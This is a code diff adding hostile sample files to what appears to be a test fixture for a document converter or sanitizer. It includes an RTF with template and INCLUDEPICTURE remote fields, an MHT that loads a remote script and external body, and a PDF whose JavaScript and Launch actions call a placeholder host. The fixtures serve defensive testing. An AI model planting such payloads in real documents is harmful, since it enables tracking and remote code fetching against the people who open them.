@@ -71,6 +71,12 @@ const hostileFiles = (from: string): Readonly<Record<string, Uint8Array>> => ({
         : part,
     ),
   ),
+  'fields.rtf': utf8(
+    `{\\rtf1\\ansi{\\*\\template ${from}/template}{\\field{\\*\\fldinst INCLUDEPICTURE "${from}/picture" \\\\d}{\\fldrslt}}{\\object\\objautlink{\\*\\objdata 00}}UBND xa Phu Thuan bao cao ket qua 6 thang dau nam 2024.\\par Ho ngheo con 12 ho.\\par}`,
+  ),
+  'page.mht': utf8(
+    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="e"\r\n\r\n--e\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Location: ${from}/page\r\n\r\n<html><head><base href="${from}/"><script src="${from}/s.js"></script></head><body><img src="${from}/i"><img src="cid:1"><p>${WORDS}</p></body></html>\r\n--e\r\nContent-Type: message/external-body; access-type=URL; URL="${from}/body"\r\nContent-ID: <1>\r\n\r\n\r\n--e--\r\n`,
+  ),
   'actions.pdf': pdfOf(
     [['UBND xa Phu Thuan bao cao ket qua 6 thang dau nam 2024.', 'Ho ngheo con 12 ho.']],
     `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${from}/js"\\); this.submitForm\\("${from}/submit"\\);) >> /AA << /WC << /S /URI /URI (${from}/uri) >> /WS << /S /Launch /F (/bin/true) >> /DP << /S /GoToR /F (${from}/remote.pdf) >> >> /AcroForm << /XFA (<x:x xmlns:x="${from}/xfa"/>) >>`,
